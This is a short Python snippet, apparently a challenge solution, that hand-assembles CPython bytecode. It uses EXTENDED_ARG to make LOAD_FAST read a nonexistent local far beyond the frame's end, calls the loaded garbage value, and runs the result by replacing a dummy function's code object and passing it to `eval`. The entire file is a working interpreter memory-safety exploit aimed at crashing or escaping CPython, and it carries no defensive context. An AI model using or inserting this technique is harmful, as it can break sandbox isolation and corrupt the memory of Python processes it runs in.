def victim():
    pass


def solve(n):
    # LOAD_FAST of a local that does not exist, far past the frame's end, then a call of it.
    import dis

    load = dis.opmap["LOAD_FAST"]
    extended = dis.opmap["EXTENDED_ARG"]
    call = dis.opmap["CALL"]
    code = bytes(
        [dis.opmap["RESUME"], 0, extended, 255, extended, 255, load, 255, load, 0, call, 0] * 4
        + [0] * 12
    )
    return eval(victim.__code__.replace(co_code=code, co_stacksize=1))
